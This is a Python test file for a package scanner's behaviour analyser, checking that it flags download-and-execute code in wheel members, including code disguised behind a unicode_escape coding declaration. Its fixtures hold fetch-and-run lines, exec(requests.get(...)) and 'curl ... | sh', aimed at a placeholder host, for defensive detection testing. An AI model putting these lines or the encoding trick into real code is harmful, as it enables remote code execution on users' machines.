"""The behaviour analyser: roles, places and failures of members."""

from __future__ import annotations

from hashlib import sha256
from typing import TYPE_CHECKING

import pytest

from scanner.analyzers.behaviour import behaviour
from scanner.model import ArtifactMetadata, Kind, MemberName, Role, Sha256Hex
from scanner.ruleset import Ruleset
from scanner.view import ArtifactView, MemberView

if TYPE_CHECKING:
    from collections.abc import Iterator

    from scanner.model import Finding

CHAIN = "import requests\nexec(requests.get('https://host.invalid').text)\n"


@pytest.fixture(scope="module")
def ruleset() -> Ruleset:
    return Ruleset.load()


def _found(ruleset: Ruleset, *members: tuple[str, bytes, Role]) -> Iterator[Finding]:
    views = {}
    for name, data, role in members:
        digest = Sha256Hex(sha256(data).hexdigest())
        views[MemberName(name)] = MemberView(MemberName(name), data, digest, role, is_python=name.endswith(".py"))
    roles = {name: view.role for name, view in views.items()}
    yield from behaviour(ArtifactView("p-1-py3-none-any.whl", True, ArtifactMetadata(), views, roles), ruleset)


@pytest.mark.parametrize("role", list(Role))
def test_a_finding_has_the_role_of_its_member(role: Role, ruleset: Ruleset) -> None:
    (finding,) = [f for f in _found(ruleset, ("p/a.py", CHAIN.encode(), role)) if f.rule == "download-exec"]
    assert (finding.role, finding.member, finding.line, finding.kind) == (role, "p/a.py", 2, Kind.BEHAVIOUR)


def test_a_member_that_is_no_python_is_left_to_others(ruleset: Ruleset) -> None:
    assert list(_found(ruleset, ("p/a.txt", CHAIN.encode(), Role.IMPORT))) == []


@pytest.mark.parametrize("data", [b"\0", b"x" * (1024 * 1024 + 1), b"# coding: rot13\n", b"\xff", b"= =" * 99])
def test_a_member_that_cannot_be_read_costs_only_itself(data: bytes, ruleset: Ruleset) -> None:
    members = (("p/bad.py", data, Role.IMPORT), ("p/good.py", CHAIN.encode(), Role.IMPORT))
    assert "download-exec" in {finding.rule for finding in _found(ruleset, *members) if finding.member == "p/good.py"}


def test_equal_artifacts_give_equal_findings(ruleset: Ruleset) -> None:
    members = tuple((f"p/m{i}.py", CHAIN.encode(), Role.IMPORT) for i in range(5))
    assert list(_found(ruleset, *members)) == list(_found(ruleset, *members))


def test_an_exotic_encoding_hides_no_chain(ruleset: Ruleset) -> None:
    text = b"# coding: unicode_escape\n#\\x0aimport os\\x0aos.system('curl https://host.invalid | sh')\n"
    findings = list(_found(ruleset, ("p/a.py", text, Role.IMPORT)))
    assert "shell-command-with-download" in {finding.rule for finding in findings}
